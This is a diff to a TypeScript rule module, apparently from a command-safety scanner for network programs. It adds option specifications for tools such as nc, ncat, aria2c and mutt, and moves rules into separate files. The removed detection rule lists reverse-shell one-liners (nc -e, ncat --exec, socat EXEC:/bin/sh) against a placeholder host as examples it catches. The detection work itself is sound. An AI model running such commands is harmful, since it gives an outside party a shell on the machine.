@@ -1,3 +1,7 @@
+import { exposureRules } from './network-exposure.ts'
+import { probingRules } from './network-probing.ts'
+import { sendingRules } from './network-sending.ts'
+import { shellRules } from './network-shells.ts'
 import type { Domain } from './rule.ts'
 
 const list = (words: string) => words.split(' ')
@@ -13,28 +17,26 @@ export const network: Domain = {
     ssh: { values: list('-b -c -D -E -e -F -I -i -J -L -l -m -O -o -p -Q -R -S -W -w'), posix: true },
     scp: { values: list('-c -D -F -i -J -l -o -P -S -X') },
     sftp: { values: list('-b -B -c -D -F -i -J -l -o -P -R -s -S') },
+    xterm: { words: true, values: ['-display', '-e', '-T', '-title', '-geometry'] },
+    aria2c: { values: list('-o --out -d --dir -i --input-file -x -s -j -k --header') },
+    http: {
+      values: list('-a --auth -A --auth-type -o --output -s --style -p --print --session --timeout --proxy --verify'),
+    },
+    https: {
+      values: list('-a --auth -A --auth-type -o --output -s --style -p --print --session --timeout --proxy --verify'),
+    },
+    xh: {
+      values: list('-a --auth -A --auth-type -o --output -s --style -p --print --session --timeout --proxy --verify'),
+    },
+    nc: { values: list('-w -p -s -i -q -X -x -T -I -O -P -V -e -c -g') },
+    ncat: { values: list('-w -p -s -i -e -c --exec --sh-exec --proxy --proxy-type --proxy-auth -g -G -m -d') },
+    mail: { values: list('-s -a -b -c -r -A -S') },
+    mutt: { values: list('-s -a -b -c -e -f -F -H -i') },
     wget: {
       values: list(
         '-O --output-document -P --directory-prefix -o --output-file -a --append-output -i --input-file -U --user-agent --header --post-data --post-file --body-data --body-file --method --user --password -t --tries -T --timeout -w --wait -A --accept -R --reject -D --domains -l --level -Q --quota -e --execute --referer --limit-rate -B --base --ca-certificate --certificate',
       ),
     },
   },
-  rules: [
-    {
-      id: 'network/shell-away',
-      program: ['nc', 'ncat', 'netcat', 'socat'],
-      when: call =>
-        call.program === 'socat'
-          ? (call.operands.find(({ value }) => /^(exec|system|shell):/i.test(value)) ?? false)
-          : call.has('-e', '-c', '--exec', '--sh-exec'),
-      severity: 'critical',
-      reason: 'gives a shell of this machine to another one',
-      match: [
-        'nc -e /bin/sh 1.2.3.4 4444',
-        'ncat --exec /bin/bash 1.2.3.4 4444',
-        'socat TCP:1.2.3.4:4444 EXEC:/bin/sh',
-      ],
-      notMatch: ['nc -zv localhost 5432', 'nc -l 8080', 'socat TCP-LISTEN:80,fork TCP:localhost:8080'],
-    },
-  ],
+  rules: [...shellRules, ...exposureRules, ...sendingRules, ...probingRules],
 }
